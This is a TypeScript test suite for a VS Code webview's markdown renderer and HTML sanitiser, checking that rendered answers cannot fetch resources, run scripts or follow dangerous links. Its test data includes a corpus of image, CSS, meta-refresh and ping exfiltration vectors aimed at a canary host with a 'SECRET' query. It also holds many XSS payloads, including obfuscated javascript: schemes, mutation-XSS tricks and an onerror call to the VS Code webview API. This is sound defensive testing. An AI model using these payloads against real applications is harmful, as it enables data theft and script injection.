import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { JSDOM } from 'jsdom';
import { parseHtml, pick, randomInt, seededRandom } from './domWindow';
import { MAX_ANSWER_CHARS, TRUNCATION_NOTICE_HTML, renderMarkdown } from '../../../webview/markdown/render';
import { sanitizeToString } from '../../../webview/markdown/sanitize';

const ALLOWED_TAGS = new Set([
  'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'ul', 'ol', 'li', 'pre', 'code', 'em', 'strong', 's',
  'a', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span',
]);
const ALLOWED_ATTRS = new Set(['href', 'data-href', 'title', 'rel', 'class', 'start', 'data-info', 'data-line']);
const SAFE_HREF = /^(?:https?:\/\/|mailto:|#)/i;
const DANGEROUS_SCHEME = /^(?:javascript|vbscript|data|vscode|vscode-[a-z]+|command|file):/i;

/**
 * The invariants every rendered answer must satisfy (THREATS T1, T3, T4, §3.5): only allowlisted elements,
 * no event handlers, nothing that fetches (src, srcset, style, ping, poster…), hrefs only on links and only
 * with a safe scheme, every link tagged for the click interceptor. Returns the violations found.
 */
function violations(html: string): string[] {
  const found: string[] = [];
  for (const element of Array.from(parseHtml(html).querySelectorAll('*'))) {
    const tag = element.localName;
    if (!ALLOWED_TAGS.has(tag)) {
      found.push(`element <${tag}>`);
    }
    for (const { name, value } of Array.from(element.attributes)) {
      if (name.startsWith('on')) {
        found.push(`event handler ${name} on <${tag}>`);
      }
      if (!ALLOWED_ATTRS.has(name)) {
        found.push(`attribute ${name} on <${tag}>`);
      }
      if ((name === 'href' || name === 'data-href') && (tag !== 'a' || !SAFE_HREF.test(value))) {
        found.push(`${name}="${value}" on <${tag}>`);
      }
      // The info string and a title are shown as text, never followed; everything else must not hold a URL
      // with a dangerous scheme, even with whitespace or controls tucked into it.
      if (name !== 'data-info' && name !== 'title' && DANGEROUS_SCHEME.test(value.replace(/[\s\u0000-\u001f]/g, ''))) {
        found.push(`${name}="${value}" on <${tag}>`);
      }
    }
    // An <a> without href (what DOMPurify leaves of a refused link) is inert; one with href must be tagged.
    if (tag === 'a' && element.hasAttribute('href')) {
      if (element.getAttribute('href') !== element.getAttribute('data-href')) {
        found.push('link whose href and data-href differ');
      }
      if (element.getAttribute('rel') !== 'noopener noreferrer') {
        found.push('link without rel="noopener noreferrer"');
      }
    }
  }
  return found;
}

function assertInert(html: string, input: string): void {
  assert.deepEqual(violations(html), [], `input: ${JSON.stringify(input)}\noutput: ${html}`);
}

function blockedImages(html: string): string[] {
  return Array.from(parseHtml(html).querySelectorAll('span.md-image-blocked')).map((span) => span.textContent ?? '');
}

const PORT = 47613;
const CANARY = `https://127.0.0.1:${PORT}`;

/** T1: every way an answer could make the webview fetch a URL, in markdown and in raw HTML. */
const EXFILTRATION_CORPUS: Record<string, string> = {
  'inline image': `![logo](${CANARY}/?q=SECRET)`,
  'inline image with title': `![chart](${CANARY}/c.png?q=SECRET "Chart")`,
  'image with angle-bracket destination': `![a](<${CANARY}/?q=SECRET x>)`,
  'reference-style image': `See ![x][img].\n\n[img]: ${CANARY}/?q=SECRET`,
  'collapsed reference image': `![img][]\n\n[img]: ${CANARY}/?q=SECRET`,
  'shortcut reference image': `![img]\n\n[img]: <${CANARY}/?q=SECRET> "t"`,
  'reference defined before use': `[pix]: ${CANARY}/?q=SECRET\n\n![pix]`,
  'image inside a link': `[![badge](${CANARY}/b.svg?q=SECRET)](https://example.com/)`,
  'data: image': '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=)',
  'protocol-relative image': `![a](//127.0.0.1:${PORT}/?q=SECRET)`,
  'relative image': '![a](media/icon.svg?q=SECRET)',
  'raw img': `<img src="${CANARY}/?q=SECRET">`,
  'raw picture and source': `<picture><source srcset="${CANARY}/s.png?q=SECRET"><img src="${CANARY}/i.png"></picture>`,
  'svg image': `<svg><image href="${CANARY}/svg.png?q=SECRET" /></svg>`,
  'svg use': `<svg><use xlink:href="${CANARY}/sprite.svg#x" /></svg>`,
  'link prefetch': `<link rel=prefetch href="${CANARY}/prefetch?q=SECRET">`,
  'stylesheet link': `<link rel=stylesheet href="${CANARY}/s.css">`,
  'css background url': `<div style="background:url(${CANARY}/bg.png?q=SECRET)">styled</div>`,
  'style element import': `<style>@import url(${CANARY}/i.css); body{background:url(${CANARY}/b.png)}</style>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${CANARY}/refresh?q=SECRET">`,
  'anchor ping': `<a ping="${CANARY}/ping?q=SECRET" href="https://example.com/">docs</a>`,
  'video poster': `<video poster="${CANARY}/p.png" src="${CANARY}/v.mp4"></video>`,
  'audio source': `<audio><source src="${CANARY}/a.mp3"></audio>`,
  'iframe': `<iframe src="${CANARY}/frame"></iframe>`,
  'object and embed': `<object data="${CANARY}/o"></object><embed src="${CANARY}/e">`,
  'input image': `<input type=image src="${CANARY}/in.png">`,
  'table background': `<table background="${CANARY}/t.png"><tr><td>x</td></tr></table>`,
  'base href': `<base href="${CANARY}/">\n\n[rel](x)`,
  'image in heading and list': `# ![h](${CANARY}/h.png)\n\n- ![l](${CANARY}/l.png)\n\n> ![q](${CANARY}/q.png)`,
  'image in table cell': `| a |\n|---|\n| ![t](${CANARY}/t.png) |`,
};

describe('webview markdown rendering', () => {
  describe('basics', () => {
    it('renders common markdown', () => {
      const html = renderMarkdown('# Title\n\nSome *em*, **strong**, ~~gone~~ and `code`.\n\n- one\n- two\n\n> quoted\n\n---\n');
      assert.equal(
        html,
        '<h1>Title</h1>\n<p>Some <em>em</em>, <strong>strong</strong>, <s>gone</s> and <code>code</code>.</p>\n' +
          '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n<hr>\n',
      );
    });

    it('keeps the start number of an ordered list', () => {
      assert.match(renderMarkdown('3. three\n4. four\n'), /^<ol start="3">/);
    });

    it('turns table alignment into classes instead of style attributes', () => {
      const html = renderMarkdown('| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n');
      assert.match(html, /<th class="md-align-left">a<\/th>/);
      assert.match(html, /<td class="md-align-center">2<\/td>/);
      assert.match(html, /<td class="md-align-right">3<\/td>/);
      assert.doesNotMatch(html, /style=/);
    });

    it('emits fenced code with a language class, the info string in data-info and its first content line in data-line', () => {
      const html = renderMarkdown('```yaml file=docs/api/openapi.yaml\nopenapi: 3.1.0\n```\n');
      assert.equal(
        html,
        '<pre data-info="yaml file=docs/api/openapi.yaml" data-line="2"><code class="language-yaml">openapi: 3.1.0\n</code></pre>\n',
      );
      assert.match(renderMarkdown('# T\n\ntext\n\n- item\n\n  ```sql\n  select 1;\n  ```\n'), /<pre data-info="sql" data-line="8">/);
    });

    it('omits data-info and the class for a fence without info, and keeps tilde fences', () => {
      assert.equal(renderMarkdown('```\nx\n```'), '<pre data-line="2"><code>x\n</code></pre>\n');
      assert.equal(renderMarkdown('~~~sql\nselect 1;\n~~~'), '<pre data-info="sql" data-line="2"><code class="language-sql">select 1;\n</code></pre>\n');
    });

    it('cleans hostile info strings: escaped, no hidden characters, no attribute breakout', () => {
      const html = renderMarkdown('```js" onmouseover="alert(1)\u202e\u200b x\nlet a;\n```\n');
      assertInert(html, 'info');
      const pre = parseHtml(html).querySelector('pre');
      assert.equal(pre?.getAttribute('data-info'), 'js" onmouseover="alert(1) x');
      assert.equal(pre?.firstElementChild?.getAttribute('class'), null, 'a language word with quotes is not used as a class');
      assert.equal(parseHtml(renderMarkdown(`\`\`\`yaml ${'x'.repeat(1000)}\nx\n\`\`\``)).querySelector('pre')?.getAttribute('data-info')?.length, 257);
    });

    it('escapes code content', () => {
      assert.equal(renderMarkdown('```html\n<script>alert(1)</script>\n```'),
        '<pre data-info="html" data-line="2"><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n');
    });

    it('renders https, http, mailto and fragment links for the click interceptor', () => {
      const html = renderMarkdown('[a](https://example.com/x?y=1 "T") [b](http://example.org) [c](mailto:me@example.com) [d](#top) <https://auto.example/>');
      const links = Array.from(parseHtml(html).querySelectorAll('a'));
      assert.deepEqual(links.map((a) => a.getAttribute('data-href')), [
        'https://example.com/x?y=1', 'http://example.org', 'mailto:me@example.com', '#top', 'https://auto.example/',
      ]);
      assert.equal(links[0].getAttribute('title'), 'T');
      assertInert(html, 'links');
    });

    it('does not linkify bare text (file names are not hosts)', () => {
      assert.equal(renderMarkdown('Edit main.py, setup.sh and https://example.com'), '<p>Edit main.py, setup.sh and https://example.com</p>\n');
    });

    it('shows links with other schemes as plain labels', () => {
      const cases = [
        'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'vbscript:x', 'data:text/html,<script>alert(1)</script>',
        'vscode://ms-python.python/x', 'vscode-webview://x/y', 'command:workbench.action.terminal.new',
        'command:workbench.action.openSettings?%5B%22x%22%5D', 'file:///etc/passwd', '//evil.example/x', 'docs/api.yaml',
        '../../etc/passwd', 'ftp://example.com', 'https:evil.example',
      ];
      for (const href of cases) {
        const html = renderMarkdown(`[label](${href})`);
        assertInert(html, href);
        const fragment = parseHtml(html);
        assert.equal(fragment.querySelector('a'), null, href);
        assert.equal(fragment.querySelector('span.md-link-blocked')?.textContent, 'label', href);
      }
    });

    it('blocks autolinks and reference links with refused schemes', () => {
      for (const source of ['<javascript:alert(1)>', '<command:x>', '[x][r]\n\n[r]: javascript:alert(1)', '[r]\n\n[r]: vscode:x']) {
        const html = renderMarkdown(source);
        assertInert(html, source);
        assert.equal(parseHtml(html).querySelector('a'), null, source);
      }
    });

    it('caps the rendered size and says so', () => {
      const html = renderMarkdown('a'.repeat(MAX_ANSWER_CHARS + 10));
      assert.ok(html.endsWith(TRUNCATION_NOTICE_HTML));
      assert.equal(parseHtml(html).querySelector('p')?.textContent?.length, MAX_ANSWER_CHARS);
    });
  });

  describe('T1: no image or other resource is ever fetched', () => {
    for (const [name, source] of Object.entries(EXFILTRATION_CORPUS)) {
      it(name, () => {
        const html = renderMarkdown(source);
        assertInert(html, source);
        assert.doesNotMatch(html, /<(img|picture|source|svg|image|link|meta|style|video|audio|iframe|object|embed|input|base)\b/i);
      });
    }

    it('turns every markdown image into "[image blocked: ALT → HOST]" without the path or query', () => {
      const expected: Record<string, string[]> = {
        'inline image': [`[image blocked: logo → 127.0.0.1:${PORT}]`],
        'inline image with title': [`[image blocked: chart → 127.0.0.1:${PORT}]`],
        'reference-style image': [`[image blocked: x → 127.0.0.1:${PORT}]`],
        'collapsed reference image': [`[image blocked: img → 127.0.0.1:${PORT}]`],
        'shortcut reference image': [`[image blocked: img → 127.0.0.1:${PORT}]`],
        'reference defined before use': [`[image blocked: pix → 127.0.0.1:${PORT}]`],
        'image inside a link': [`[image blocked: badge → 127.0.0.1:${PORT}]`],
        'data: image': ['[image blocked: dot → data:]'],
        'protocol-relative image': ['[image blocked: a → remote host]'],
        'relative image': ['[image blocked: a → local path]'],
        'image in heading and list': ['h', 'l', 'q'].map((alt) => `[image blocked: ${alt} → 127.0.0.1:${PORT}]`),
        'image in table cell': [`[image blocked: t → 127.0.0.1:${PORT}]`],
      };
      for (const [name, texts] of Object.entries(expected)) {
        const html = renderMarkdown(EXFILTRATION_CORPUS[name]);
        assert.deepEqual(blockedImages(html), texts, name);
        assert.doesNotMatch(html, /SECRET/, `${name}: the query string is not even shown`);
      }
    });

    it('keeps an image-in-link as a link to the outer target only', () => {
      const anchors = parseHtml(renderMarkdown(EXFILTRATION_CORPUS['image inside a link'])).querySelectorAll('a');
      assert.equal(anchors.length, 1);
      assert.equal(anchors[0].getAttribute('href'), 'https://example.com/');
    });

    it('shows raw HTML as text', () => {
      const html = renderMarkdown(EXFILTRATION_CORPUS['raw picture and source']);
      assert.equal(parseHtml(html).textContent?.trim(), EXFILTRATION_CORPUS['raw picture and source']);
    });

    it('lets a canary server on 127.0.0.1 see no request while jsdom loads resources and runs scripts', async () => {
      let hits = 0;
      const server = http.createServer((_request, response) => {
        response.end('');
      });
      server.on('connection', () => hits++);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const port = (server.address() as AddressInfo).port;
      try {
        const canary = (source: string) => source.replaceAll(`https://127.0.0.1:${PORT}`, `http://127.0.0.1:${port}`);
        const page = (body: string) =>
          new JSDOM(`<!doctype html><html><head></head><body>${body}</body></html>`, {
            url: 'https://webview.test/',
            resources: 'usable',
            runScripts: 'dangerously',
          });
        const wait = () => new Promise((resolve) => setTimeout(resolve, 300));

        // Positive control: the same harness does see a fetch when unsanitised markup gets through.
        const control = page(canary(EXFILTRATION_CORPUS['stylesheet link']));
        await wait();
        control.window.close();
        assert.ok(hits > 0, 'the harness detects a stylesheet fetch');

        hits = 0;
        const rendered = Object.values(EXFILTRATION_CORPUS).map((source) => renderMarkdown(canary(source))).join('\n');
        const windows = [page(rendered)];
        // Also insert the result the way the view does, after load, into a live document.
        const live = page('');
        live.window.document.body.innerHTML = rendered;
        windows.push(live);
        await wait();
        windows.forEach((w) => w.window.close());
        assert.equal(hits, 0);
      } finally {
        server.closeAllConnections();
        await new Promise((resolve) => server.close(resolve));
      }
    });
  });

  describe('T3 and T4: no script and no form', () => {
    it('shows <img src=x onerror=...> as text', () => {
      const source = '<img src=x onerror="acquireVsCodeApi().postMessage({type:\'artifact/write\'})">';
      const html = renderMarkdown(source);
      assertInert(html, source);
      assert.equal(parseHtml(html).textContent?.trim(), source);
    });

    it('shows a form with a button as inert text', () => {
      const source = '<form action=https://canary.example/collect><button>Apply</button></form>';
      const html = renderMarkdown(source);
      assertInert(html, source);
      const fragment = parseHtml(html);
      assert.equal(fragment.querySelector('form, button, input'), null);
      assert.equal(fragment.textContent?.trim(), source);
    });

    it('neutralises a corpus of script vectors', () => {
      const vectors = [
        '<script>alert(1)</script>', '<svg onload=alert(1)>', '<body onload=alert(1)>', '<video><source onerror=alert(1)>',
        '<details open ontoggle=alert(1)>', '<a href="javascript:alert(1)">x</a>', '[x](javascript:alert(1))',
        '[x](javascript&#58;alert(1))', '[x](java\nscript:alert(1))', '[x](&#106;avascript:alert(1))',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mtext><mglyph><style><img src=x onerror=alert(1)>',
        '<iframe srcdoc="<script>alert(1)</script>">', '<a href="vscode:extension/x">x</a>', '`<img src=x onerror=alert(1)>`',
        '<div onmouseover="while(1){}">hover</div>', '"><img src=x onerror=alert(1)>', '[a](https://x.example "\\"onmouseover=alert(1)")',
      ];
      for (const vector of vectors) {
        const html = renderMarkdown(vector);
        assertInert(html, vector);
        assert.doesNotMatch(html, /<(script|svg|img|iframe|details|video|math|style|noscript|body|div)\b/i, vector);
      }
    });
  });

  describe('the sanitiser alone (if the parser ever let markup through)', () => {
    const raw = [
      `<img src="${CANARY}/x" onerror="alert(1)">`, '<a href="javascript:alert(1)">x</a>', '<a href="https://ok.example" onclick="x()">ok</a>',
      '<a href="vscode:x" data-href="vscode:x">x</a>', '<a href="https://ok.example" data-href="javascript:alert(1)">x</a>',
      `<form action="${CANARY}"><button formaction="${CANARY}">Apply</button><input value=x></form>`, `<svg><image href="${CANARY}/s"/></svg>`,
      `<p style="background:url(${CANARY}/bg)">p</p>`, '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<div data-foo="1" id="x" name="y">d</div>',
      `<pre data-info="yaml" data-extra="1" class="x"><code>c</code></pre>`, `<a href="${CANARY}" ping="${CANARY}/p" target="_blank">t</a>`,
      `<link rel=prefetch href="${CANARY}">`, `<meta http-equiv=refresh content="0;url=${CANARY}">`, '<template><img src=x onerror=alert(1)></template>',
      '<a href="  javascript:alert(1)">x</a>', '<a href="java&#x09;script:alert(1)">x</a>', '<a href="&#x6A;avascript:alert(1)">x</a>',
    ];
    for (const html of raw) {
      it(html, () => assertInert(sanitizeToString(html), html));
    }

    it('keeps what the renderer emits', () => {
      const html = '<ol start="3"><li><a href="https://x.example/" data-href="https://x.example/" rel="noopener noreferrer" title="t">x</a></li></ol>' +
        '<pre data-info="yaml file=a.yaml"><code class="language-yaml">a: 1</code></pre><span class="md-image-blocked">[image blocked: a → b]</span>';
      assert.equal(sanitizeToString(html), html);
    });
  });

  describe('property: random mixes of payload fragments stay inert', () => {
    const fragments = [
      ...Object.values(EXFILTRATION_CORPUS), '![x](https://127.0.0.1:1/?q=S)', '![y][r]', '[r]: https://127.0.0.1:1/r', '[r]: javascript:alert(1)',
      '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](java\tscript:x)', '[a](&#106;avascript:x)', '[a](vscode://x)',
      '[a](command:workbench.action.terminal.new)', '[a](file:///etc/passwd)', '[a](data:text/html,<script>alert(1)</script>)',
      '[a](https://example.com)', '<a href="javascript:alert(1)">x</a>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>',
      '<form action=https://c.example><button>Go</button></form>', '<math><mtext><mglyph><style><img src=x onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '```', '```js" onmouseover="alert(1)', '~~~', '````', '> ', '- ', '1. ',
      '**', '_', '`', '``', '[', ']', '(', ')', '<', '>', '"', "'", '\n', '\n\n', '    ', '|a|b|\n|-|-|\n', '| x | y |\n', '<https://example.com>',
      '<javascript:alert(1)>', 'text ', '&lt;', '&#x3C;img src=x&#x3E;', '&#106;', '\u202e', '\u0000', '\\', '!', 'https://example.com', '# ', '---\n',
      '<a ping=https://c.example href=https://e.example>p</a>', '"onmouseover="alert(1)', 'javascript:', ' title="x"', '<!-- -->', ']]>', '<![CDATA[',
    ];
    const runs = 400;
    it(`holds for ${runs} seeded documents (markdown pipeline and sanitiser alone)`, function () {
      this.timeout(30_000);
      for (let seed = 1; seed <= runs; seed++) {
        const random = seededRandom(seed);
        const parts: string[] = [];
        for (let count = randomInt(random, 1, 30); count > 0; count--) {
          parts.push(pick(random, fragments));
        }
        const source = parts.join(random() < 0.5 ? '' : ' ');
        const rendered = renderMarkdown(source);
        assert.deepEqual(violations(rendered), [], `seed ${seed}: ${JSON.stringify(source)}\n${rendered}`);
        const sanitized = sanitizeToString(source);
        assert.deepEqual(violations(sanitized), [], `seed ${seed} (sanitiser): ${JSON.stringify(source)}\n${sanitized}`);
      }
    });
  });
});
